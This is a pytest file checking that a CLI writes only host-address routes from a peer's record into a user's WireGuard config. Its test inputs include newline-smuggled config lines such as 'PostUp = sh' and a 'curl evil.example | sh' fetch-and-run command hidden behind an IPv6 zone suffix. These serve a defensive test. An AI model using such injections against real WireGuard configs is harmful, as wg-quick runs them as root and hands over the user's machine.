"""cli.peers: what goes from a peer's record into our user's WireGuard file."""

from __future__ import annotations

from typing import Any

import pytest

from pqdht.cli.peers import _peer_section
from pqdht.errors import ConfigError


def found(allowed_ips: str | None, *endpoints: str) -> dict[str, Any]:
    """A `find_peer` result, as far as the section needs it."""
    attributes = {} if allowed_ips is None else {"allowed_ips": allowed_ips}
    return {"endpoints": list(endpoints), "attributes": attributes}


def test_host_routes_and_the_first_endpoint_are_taken() -> None:
    section = _peer_section(found("10.0.0.1/32, fd00::3", "vpn.example:1", "vpn.example:2"), "KEY")
    assert section.splitlines()[2:] == [
        "PublicKey = KEY",
        "Endpoint = vpn.example:1",
        "AllowedIPs = 10.0.0.1/32, fd00::3/128",
    ]


@pytest.mark.parametrize(
    "allowed_ips",
    [
        "0.0.0.0/0",
        "10.0.0.0/31",
        "10.0.0.1/32\nPostUp = sh",
        "fe80::1%\n[Interface]\nPostUp = curl evil.example | sh\n#",  # Python takes this for a zone
        "10.0.0.1/32, fe80::1%eth0",
        "\n",
    ],
)
def test_nothing_but_host_addresses_gets_in(allowed_ips: str, capsys: pytest.CaptureFixture[str]) -> None:
    """wg-quick runs commands out of its file, as root."""
    section = _peer_section(found(allowed_ips), "KEY")
    assert section.splitlines()[2:] == ["PublicKey = KEY"]
    assert "left for you to write" in capsys.readouterr().err


def test_a_peer_without_a_key_has_no_section() -> None:
    with pytest.raises(ConfigError, match="no WireGuard key"):
        _peer_section(found(None), None)
